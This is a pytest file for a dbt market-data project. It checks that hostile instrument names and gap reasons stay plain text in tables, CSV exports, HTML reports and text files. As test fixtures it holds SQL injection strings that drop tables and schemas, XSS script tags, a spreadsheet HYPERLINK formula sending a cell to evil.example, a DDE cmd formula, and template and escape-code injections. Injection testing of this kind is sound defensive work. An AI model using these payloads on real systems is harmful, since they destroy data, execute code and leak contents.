"""Texts made to be obeyed, in the table and in files that people edit: they stay text from end to end."""

from __future__ import annotations

import csv
import html
import json
import re
import shutil
from collections import Counter
from pathlib import Path

import pytest

from extract.database.database import Database
from extract.report.evidence import write_report
from tests.support.dbt_project import DbtProject
from tests.support.perps import PROJECT
from tests.support.truth import rows, table
from tests.unit.report.test_page_text import Parts

NAMES = (
    "'); drop table public.perpetuals_ohlcv; --",
    '=HYPERLINK("https://evil.example/?"&A1;"click")',
    "</script><script>alert(1)</script><img src=x onerror=alert(2)>",
    "\x1b[2Jred\nline {{ 1/0 }} %s %(x)s $$ \\",
)
REASON = (
    "=cmd|' /C calc'!A0 </td><script>alert(3)</script> '; drop schema quality cascade; -- {{ 1/0 }} %s\x1b["
)
LAND = """
insert into deribit_raw.candles
select %s, '1', timestamptz '2024-01-01 00:00+00' + n * interval '1 minute', 1, 2, 0.5, 1.5, 1, 1, '10.5'
from generate_series(0, 59) as n where n not between 20 and 29
"""

ASK = """
insert into deribit_raw.fetches
select %s, '1', opens, closes, 50, 50, 0, closes, 'simulator', '10.5'
from (values (timestamptz '2024-01-01 00:00+00', timestamptz '2024-01-01 01:00+00')) as asked (opens, closes)
"""


@pytest.fixture(scope="module")
def project(module_database: Database, tmp_path_factory: pytest.TempPathFactory) -> DbtProject:
    """A copy of the dbt project, whose seed can be spoilt, over candles of hostile instruments."""
    clone, work = tmp_path_factory.mktemp("clone"), tmp_path_factory.mktemp("dbt")
    shutil.copytree(PROJECT / "dbt_project", clone / "dbt_project")
    shutil.copyfile(PROJECT / "dbt_project.yml", clone / "dbt_project.yml")
    project = DbtProject(module_database, work, project=clone)
    project.create_raw_tables()
    opened = module_database.connect()
    with opened.cursor() as cursor:
        for name in NAMES:
            cursor.execute(LAND, [name])
            cursor.execute(ASK, [name])
    opened.close()
    project.complete("10.5")
    return project


def explain(project: DbtProject, *lines: tuple[str, ...]) -> None:
    with (project.project / "dbt_project/seeds/known_gaps.csv").open("w", newline="") as seed:
        csv.writer(seed).writerows(lines)


HEADER = ("instrument", "gap_start", "gap_end", "reason", "evidence")
ENTRIES = [(name, "2024-01-01 00:19", "2024-01-01 00:30", REASON, REASON) for name in NAMES]


def test_hostile_texts_stay_text_in_tables_files_and_the_page(project: DbtProject, tmp_path: Path) -> None:
    explain(project, HEADER, *ENTRIES)
    left_out = ("--exclude-resource-type", "unit_test", "--exclude-resource-type", "test")
    built = project.run("build", *left_out)
    assert built.success, built.output
    held = Counter(row[1] for row in table(project.database))
    assert held == dict.fromkeys(NAMES, 50)
    assert rows(project.database, "select distinct reason, note from quality.ohlcv_gaps") == [
        ("known", REASON)
    ]

    report = write_report(project.database, tmp_path)
    assert report.counts["gaps"] == len(NAMES)
    with (tmp_path / "gap-report.csv").open(newline="", encoding="utf-8") as file:
        listed = list(csv.DictReader(file))
    assert {row["note"] for row in listed} == {f"'{REASON}"}
    assert {row["instrument"] for row in listed} == {f"'{n}" if n.startswith("=") else n for n in NAMES}
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    parts = Parts(page)
    assert len(parts.scripts) == 3
    assert "img" not in parts.tags
    assert {named["name"] for named in json.loads(parts.scripts[0])["instruments"]} == set(NAMES)
    body = html.unescape(re.sub(r"<script.*?</script>", "", page, flags=re.S))
    assert all(name in body for name in (*NAMES, REASON))
    counts = (tmp_path / "row-counts.txt").read_text(encoding="utf-8")
    assert all(line.isprintable() for line in counts.splitlines())
    assert sum(r"\x1b[2Jred\nline" in line for line in counts.splitlines()) == 1


@pytest.mark.parametrize(
    ("header", "entry"),
    [
        (("instrument", "from", "until", "why", "x"), ENTRIES[0]),
        (HEADER, (NAMES[0], "yesterday'); drop schema quality cascade; --", "2024-01-01 00:30", "r", "e")),
    ],
    ids=["other columns", "no time"],
)
def test_a_spoilt_list_of_known_gaps_fails_by_name_and_leaves_the_last_one(
    project: DbtProject, header: tuple[str, ...], entry: tuple[str, ...]
) -> None:
    before = table(project.database)
    explain(project, header, entry)
    outcome = project.run("seed")
    assert not outcome.success
    assert outcome.statuses["known_gaps"] == "error"
    assert "known_gaps" in outcome.output
    kept = rows(project.database, "select instrument, reason, evidence from quality.known_gaps order by 1")
    assert kept == sorted((entry[0], REASON, REASON) for entry in ENTRIES)
    assert table(project.database) == before


@pytest.mark.parametrize(
    ("variable", "value"),
    [
        ("base_resolution", "1'; drop schema quality cascade; --"),
        ("chunk_interval", "30 days'); drop schema quality cascade; --"),
        ("gap_threshold_minutes", "five"),
        ("columnstore", "yes"),
        ("columnstore_after", "7 days'); drop schema quality cascade; --"),
        ("columnstore_batch", 40000),
    ],
)
def test_a_variable_that_is_not_what_it_should_be_is_refused_by_name(
    project: DbtProject, variable: str, value: str | int
) -> None:
    explain(project, HEADER)
    outcome = project.run("run", "--vars", json.dumps({variable: value}), "--select", "stg_candles")
    assert not outcome.success
    assert f"expected {variable} to be" in outcome.output
    assert len(table(project.database)) == 50 * len(NAMES)


def test_no_model_indents_a_condition_that_has_names_in_it() -> None:
    """A filter that indents would put spaces behind the line break in a name, and the rows be left out."""
    models = sorted((PROJECT / "dbt_project" / "models").rglob("*.sql"))
    assert sum("in_range(" in model.read_text() for model in models) >= 7
    indented = re.compile(r"\b(in_range|within|literals)\([^}]*\) *\|")
    assert [model.name for model in models if indented.search(model.read_text())] == []
